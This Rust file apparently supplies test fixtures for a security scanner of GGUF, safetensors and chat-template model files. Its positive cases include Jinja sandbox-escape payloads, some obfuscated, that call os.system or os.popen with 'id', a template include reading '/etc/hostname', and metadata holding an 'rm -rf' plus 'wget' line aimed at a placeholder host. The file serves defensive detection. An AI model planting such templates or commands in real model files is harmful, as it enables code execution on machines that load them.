//! Fixtures of the GGUF / chat-template and safetensors analyzers.
//!
//! Template payloads only ever name harmless commands (`id`); nothing here is meant
//! to be rendered.

use super::Fixture;
use crate::gguf::{CHATML_TEMPLATE, GgufBuilder, GgufValue, ggml_type};
use crate::safetensors::{pt_metadata, safetensors};
use std::collections::BTreeMap;

/// A llama-style GGUF with one small tensor and the given chat template.
fn gguf_with_template(template: Option<&str>) -> Vec<u8> {
    let mut b = GgufBuilder::new();
    b.architecture("llama")
        .name("fixture")
        .kv("llama.context_length", GgufValue::U32(256))
        .kv(
            "tokenizer.ggml.tokens",
            GgufValue::strings(&["<s>", "</s>", "a"]),
        );
    if let Some(t) = template {
        b.chat_template(t);
    }
    b.tensor("token_embd.weight", &[4, 2], ggml_type::F32, &[0u8; 32]);
    b.build()
}

/// A tokenizer_config.json carrying `template` as its chat template.
fn tokenizer_config(template: &str) -> Vec<u8> {
    let v = serde_json::json!({
        "tokenizer_class": "LlamaTokenizer",
        "bos_token": "<s>",
        "eos_token": "</s>",
        "chat_template": template,
    });
    serde_json::to_vec_pretty(&v).unwrap_or_default()
}

fn gguf_header(tensors: u64, kvs: u64) -> Vec<u8> {
    let mut v = b"GGUF".to_vec();
    v.extend_from_slice(&3u32.to_le_bytes());
    v.extend_from_slice(&tensors.to_le_bytes());
    v.extend_from_slice(&kvs.to_le_bytes());
    v
}

fn put_str(v: &mut Vec<u8>, s: &str) {
    v.extend_from_slice(&(s.len() as u64).to_le_bytes());
    v.extend_from_slice(s.as_bytes());
}

/// A GGUF whose tensor infos are written as given: `(name, dims, type, offset)`, with
/// `data_len` bytes of data after the aligned infos.
fn gguf_raw_tensors(tensors: &[(&str, &[u64], u32, u64)], data_len: usize) -> Vec<u8> {
    let mut v = gguf_header(tensors.len() as u64, 1);
    put_str(&mut v, "general.architecture");
    v.extend_from_slice(&8u32.to_le_bytes());
    put_str(&mut v, "llama");
    for (name, dims, ty, offset) in tensors {
        put_str(&mut v, name);
        v.extend_from_slice(&(dims.len() as u32).to_le_bytes());
        for d in *dims {
            v.extend_from_slice(&d.to_le_bytes());
        }
        v.extend_from_slice(&ty.to_le_bytes());
        v.extend_from_slice(&offset.to_le_bytes());
    }
    while !v.len().is_multiple_of(32) {
        v.push(0);
    }
    v.resize(v.len() + data_len, 0);
    v
}

/// A safetensors file from a raw JSON header and `data_len` zero bytes.
fn raw_safetensors(header: &str, data_len: usize) -> Vec<u8> {
    let mut json = header.to_string();
    while !json.len().is_multiple_of(8) {
        json.push(' ');
    }
    let mut v = (json.len() as u64).to_le_bytes().to_vec();
    v.extend_from_slice(json.as_bytes());
    v.resize(v.len() + data_len, 0);
    v
}

fn valid_safetensors() -> Vec<u8> {
    let meta = pt_metadata();
    safetensors(
        &[
            ("w", "F32", &[2, 2], &[0u8; 16]),
            ("b", "F16", &[2], &[0u8; 4]),
        ],
        Some(&meta),
    )
}

const LLAMA3_TEMPLATE: &str = "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}";

const NAMESPACE_TEMPLATE: &str = "{%- set ns = namespace(system='') -%}{%- for m in messages -%}{%- if m.role == 'system' -%}{%- set ns.system = m.content -%}{%- elif m.role not in ['user', 'assistant'] -%}{{ raise_exception('Unexpected role ' ~ m.role) }}{%- else -%}{{ '<|im_start|>' + m.role + '\n' + m.content | trim + '<|im_end|>\n' }}{%- endif -%}{%- endfor -%}{% if ns.system %}{{ ns.system | tojson }}{% endif %}";

/// Positive and negative fixtures, paths relative to the fixtures root.
pub fn fixtures() -> Vec<Fixture> {
    let mut v: Vec<Fixture> = Vec::new();
    let mut add = |p: &str, b: Vec<u8>| v.push((p.to_string(), b));

    // MDL040: template injection.
    add(
        "gguf/MDL040/pos_cycler_globals.gguf",
        gguf_with_template(Some(
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for m in messages %}{{ m.content }}{% endfor %}",
        )),
    );
    add(
        "gguf/MDL040/pos_subclasses_loop.json",
        tokenizer_config(
            "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}",
        ),
    );
    add(
        "gguf/MDL040/pos_standalone.jinja",
        b"{% for message in messages %}\n{{ message.role }}: {{ message.content }}\n{% endfor %}\n{{ self.__init__.__globals__['os'].system('id') }}\n".to_vec(),
    );
    add(
        "gguf/MDL040/neg_chatml.gguf",
        gguf_with_template(Some(CHATML_TEMPLATE)),
    );
    add(
        "gguf/MDL040/neg_llama3.json",
        tokenizer_config(LLAMA3_TEMPLATE),
    );
    add(
        "gguf/MDL040/neg_helm_template.yaml",
        b"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include \"chart.fullname\" . }}\nspec:\n  template:\n    spec:\n      nodeSelector:\n        os: {{ .Values.os.type }}\n      containers:\n        - resources:\n            requests:\n              cpu: {{ .Values.resources.requests.cpu }}\n".to_vec(),
    );

    // Role names quoted in a list are data, not `os.system` reached by name.
    add(
        "gguf/MDL040/neg_role_names.jinja",
        b"{{- bos_token -}}\n{%- if messages and messages[0]['role'] in ['system', 'developer'] -%}\n{{- '<turn>system\\n' + messages[0]['content'] -}}\n{%- endif -%}\n{%- for m in messages -%}{{ prefixes['system'] if m.role == 'system' else '' }}{{ m.content }}{%- endfor -%}\n".to_vec(),
    );
    // Reached through the `attr` filter: a call, not data.
    add(
        "gguf/MDL040/pos_attr_call.jinja",
        b"{% for m in messages %}{{ m.content }}{% endfor %}{{ lib|attr('system')('id') }}\n"
            .to_vec(),
    );
    // A YAML config's `chat_template` is a chat template even without `messages`. The
    // YAML comment marking the line that must fire lies outside the template's tags.
    add(
        "gguf/MDL040/pos_yaml_chat_template.yaml",
        b"model: demo\nchat_template: \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"  # expect: MDL040, MDL042\n".to_vec(),
    );
    // Jinja for deployment files is no chat template: `.environment` is a data field.
    add(
        "gguf/MDL042/neg_deploy_template.j2",
        b"Resources:\n{% for fn in functions %}\n  {{ fn.name }}:\n    Type: AWS::Serverless::Function\n    Properties:\n      Runtime: {{ fn.runtime }}\n      Environment:\n        Variables:\n{% for k, v in fn.environment.items() %}\n          {{ k }}: {{ v }}\n{% endfor %}\n{% endfor %}\n".to_vec(),
    );

    // MDL041: obfuscated names.
    add(
        "gguf/MDL041/pos_hex_attr.gguf",
        gguf_with_template(Some(
            "{{ (messages|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f'))() }}",
        )),
    );
    add(
        "gguf/MDL041/pos_joined_name.j2",
        b"{% set a = '__glo' %}{% set b = 'bals__' %}{{ cycler|attr('__in' ~ 'it__')|attr(a ~ b) }}\n".to_vec(),
    );
    add(
        "gguf/MDL041/neg_literal_attr.j2",
        b"{% for m in messages %}{{ m|attr('role') }}: {{ m['content'] | trim }}\n{% endfor %}\n"
            .to_vec(),
    );

    // MDL042: environment globals, private attributes, loaders.
    add(
        "gguf/MDL042/pos_lipsum.jinja",
        b"{{ lipsum|string }}{% for m in messages %}{{ m.content }}{% endfor %}\n".to_vec(),
    );
    add(
        "gguf/MDL042/pos_include.json",
        tokenizer_config(
            "{% include '/etc/hostname' %}{% for m in messages %}{{ m.content }}{% endfor %}",
        ),
    );
    add(
        "gguf/MDL042/neg_namespace.gguf",
        gguf_with_template(Some(NAMESPACE_TEMPLATE)),
    );

    // MDL043: malformed template.
    add(
        "gguf/MDL043/pos_unclosed.json",
        tokenizer_config("{% for m in messages %}{{ m.content }}"),
    );
    // A CI workflow: `${#VAR}` is the shell's string length, not a Jinja comment.
    add(
        "gguf/MDL043/neg_ci_workflow.yml",
        b"name: release\non: push\njobs:\n  tag:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          NAME=\"${{ github.ref_name }}\"\n          if [ ${#NAME} -gt 40 ]; then exit 1; fi\n".to_vec(),
    );
    // A Helm chart: an apostrophe in a `{{/* */}}` comment opens no string.
    add(
        "gguf/MDL043/neg_helm_comment.yaml",
        b"{{/*\nThe bootstrap role: it can't list secrets.\n*/}}\napiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: {{ include \"chart.fullname\" . }}\n".to_vec(),
    );
    add(
        "gguf/MDL043/neg_balanced.json",
        tokenizer_config("{% for m in messages %}{{ m.content }}{% endfor %}"),
    );

    // MDL044: malformed GGUF header.
    let mut counts = gguf_header(u64::MAX - 15, 1);
    counts.extend_from_slice(&(i64::MAX as u64).to_le_bytes());
    counts.extend_from_slice(b"general.architecture");
    add("gguf/MDL044/pos_absurd_counts.gguf", counts);
    let mut long = gguf_header(0, 1);
    put_str(&mut long, "general.name");
    long.extend_from_slice(&8u32.to_le_bytes());
    long.extend_from_slice(&(1u64 << 40).to_le_bytes());
    long.extend_from_slice(b"tiny");
    add("gguf/MDL044/pos_string_past_end.gguf", long);
    let mut unknown = gguf_header(0, 1);
    put_str(&mut unknown, "general.name");
    unknown.extend_from_slice(&99u32.to_le_bytes());
    unknown.extend_from_slice(&[0u8; 16]);
    add("gguf/MDL044/pos_unknown_type.gguf", unknown);
    add("gguf/MDL044/neg_valid.gguf", gguf_with_template(None));

    // MDL045: tensor layout.
    add(
        "gguf/MDL045/pos_overlap.gguf",
        gguf_raw_tensors(
            &[
                ("a", &[16], ggml_type::F32, 0),
                ("b", &[16], ggml_type::F32, 32),
            ],
            96,
        ),
    );
    add(
        "gguf/MDL045/pos_far_offset.gguf",
        gguf_raw_tensors(&[("a", &[8], ggml_type::F32, 1 << 60)], 32),
    );
    add(
        "gguf/MDL045/neg_valid.gguf",
        gguf_raw_tensors(
            &[
                ("a", &[8], ggml_type::F32, 0),
                ("b", &[8], ggml_type::F32, 32),
            ],
            64,
        ),
    );

    // MDL050: header length.
    let mut overflow = u64::MAX.to_le_bytes().to_vec();
    overflow.extend_from_slice(b"{\"a\":1}");
    add(
        "safetensors/MDL050/pos_length_near_2_64.safetensors",
        overflow,
    );
    let mut beyond = 100_000_000u64.to_le_bytes().to_vec();
    beyond.extend_from_slice(b"{\"w\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}");
    add(
        "safetensors/MDL050/pos_length_beyond_file.safetensors",
        beyond,
    );
    add(
        "safetensors/MDL050/neg_valid.safetensors",
        valid_safetensors(),
    );

    // MDL051: offsets.
    add(
        "safetensors/MDL051/pos_overlap.safetensors",
        raw_safetensors(
            r#"{"a":{"dtype":"F32","shape":[8],"data_offsets":[0,32]},"b":{"dtype":"F32","shape":[8],"data_offsets":[16,48]}}"#,
            48,
        ),
    );
    add(
        "safetensors/MDL051/pos_past_end.safetensors",
        raw_safetensors(
            r#"{"a":{"dtype":"F32","shape":[1024,1024],"data_offsets":[0,4194304]}}"#,
            64,
        ),
    );
    add(
        "safetensors/MDL051/neg_valid.safetensors",
        valid_safetensors(),
    );

    // MDL052: invalid header.
    add(
        "safetensors/MDL052/pos_unknown_dtype.safetensors",
        raw_safetensors(
            r#"{"a":{"dtype":"Q9","shape":[4],"data_offsets":[0,4]}}"#,
            4,
        ),
    );
    add(
        "safetensors/MDL052/pos_metadata_not_strings.safetensors",
        raw_safetensors(
            r#"{"__metadata__":{"epochs":3},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}"#,
            4,
        ),
    );
    let mut leading = 16u64.to_le_bytes().to_vec();
    leading.extend_from_slice(b"  {}            ");
    add("safetensors/MDL052/pos_leading_space.safetensors", leading);
    add(
        "safetensors/MDL052/neg_valid.safetensors",
        valid_safetensors(),
    );

    // MDL053: sizes.
    add(
        "safetensors/MDL053/pos_shape_mismatch.safetensors",
        raw_safetensors(
            r#"{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,8]}}"#,
            8,
        ),
    );
    add(
        "safetensors/MDL053/pos_trailing_bytes.safetensors",
        raw_safetensors(
            r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}"#,
            12,
        ),
    );
    add(
        "safetensors/MDL053/neg_valid.safetensors",
        valid_safetensors(),
    );

    // MDL054: suspicious metadata.
    let shell = BTreeMap::from([
        ("format".to_string(), "pt".to_string()),
        (
            "setup".to_string(),
            "rm -rf /tmp/cache && wget http://example.invalid/setup.sh".to_string(),
        ),
    ]);
    add(
        "safetensors/MDL054/pos_shell_command.safetensors",
        safetensors(&[("w", "F32", &[2], &[0u8; 8])], Some(&shell)),
    );
    let code = BTreeMap::from([(
        "model_info".to_string(),
        "import os; os.system('id')".to_string(),
    )]);
    add(
        "safetensors/MDL054/pos_python_code.safetensors",
        safetensors(&[("w", "F32", &[2], &[0u8; 8])], Some(&code)),
    );
    let plain = BTreeMap::from([
        ("format".to_string(), "pt".to_string()),
        ("license".to_string(), "apache-2.0".to_string()),
        (
            "description".to_string(),
            "A small model for text classification".to_string(),
        ),
    ]);
    add(
        "safetensors/MDL054/neg_plain_metadata.safetensors",
        safetensors(&[("w", "F32", &[2], &[0u8; 8])], Some(&plain)),
    );
    v
}
